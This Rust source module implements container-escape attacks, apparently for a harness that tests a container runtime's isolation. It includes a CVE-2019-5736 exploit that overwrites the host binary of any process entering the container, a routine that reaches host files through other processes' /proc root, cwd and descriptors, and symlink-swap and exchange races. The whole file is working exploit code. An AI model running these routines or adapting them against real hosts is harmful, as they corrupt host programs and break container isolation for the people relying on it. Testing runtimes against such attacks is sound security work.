//! Attacks that lie in wait: for a process that enters the container, or for a name that is about to be used.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::calls;

/// CVE-2019-5736: holds on to the program of whoever enters the container, and writes over it once it can be opened. Prints
/// `caught` for each program it got hold of and `wrote` for each it has spoilt.
pub(crate) fn overwrite(seconds: u64) {
    println!("waiting");
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let until = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < until {
        for process in others() {
            let link = process.join("exe");
            let Ok(program) = fs::read_link(&link) else {
                continue;
            };
            // The container's own programs are its own to spoil.
            if program == own || program.starts_with("/bin") {
                continue;
            }
            let Ok(held) = File::open(&link) else { continue };
            println!("caught {}", program.display());
            write_over(&held, &program);
        }
    }
}

fn write_over(held: &File, program: &Path) {
    let again = format!("/proc/self/fd/{}", held.as_raw_fd());
    let until = Instant::now() + Duration::from_millis(200);
    // Busy for as long as it runs.
    while Instant::now() < until {
        if let Ok(mut file) = File::options().write(true).open(&again)
            && file.write_all(b"#!/bin/sh\n").is_ok()
        {
            println!("wrote {}", program.display());
            return;
        }
    }
}

/// Tries to reach a file of the host's through whatever a process that enters the container has open: its root, its
/// directory, its descriptors. Prints `reached` and the way.
pub(crate) fn reach(seconds: u64, file: &str) {
    println!("waiting");
    let file = file.trim_start_matches('/');
    let up = "../../../../../../../../";
    let until = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < until {
        for process in others() {
            let mut ways = vec![process.join("root"), process.join("cwd").join(up)];
            let open = fs::read_dir(process.join("fd")).into_iter().flatten().flatten();
            ways.extend(open.map(|entry| entry.path().join(up)));
            for way in ways {
                if File::open(way.join(file)).is_ok() {
                    println!("reached through {}", way.display());
                }
            }
        }
    }
}

/// Changes two names for one another, as fast as possible, for ever.
pub(crate) fn swap(one: &str, other: &str) {
    println!("waiting");
    loop {
        // One of them may be missing for a moment.
        let _ = calls::exchange(Path::new(one), Path::new(other));
    }
}

/// Puts a link to `target` in the place of every directory that appears in `directory`.
pub(crate) fn ambush(directory: &str, target: &str) {
    println!("waiting");
    let links = Path::new(directory).with_file_name("links");
    let _ = fs::create_dir(&links);
    for number in 0_u64.. {
        let entries = fs::read_dir(directory).into_iter().flatten().flatten();
        for entry in entries {
            if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                let link = links.join(number.to_string());
                let _ = std::os::unix::fs::symlink(target, &link);
                let _ = calls::exchange(&link, &entry.path());
            }
        }
    }
}

/// Directories of `/proc` of all processes but this one.
fn others() -> Vec<PathBuf> {
    let own = std::process::id().to_string();
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries
        .filter(|entry| {
            let name = entry.file_name();
            name.to_str()
                .is_some_and(|name| name != own && name.parse::<u32>().is_ok())
        })
        .map(|entry| entry.path())
        .collect()
}
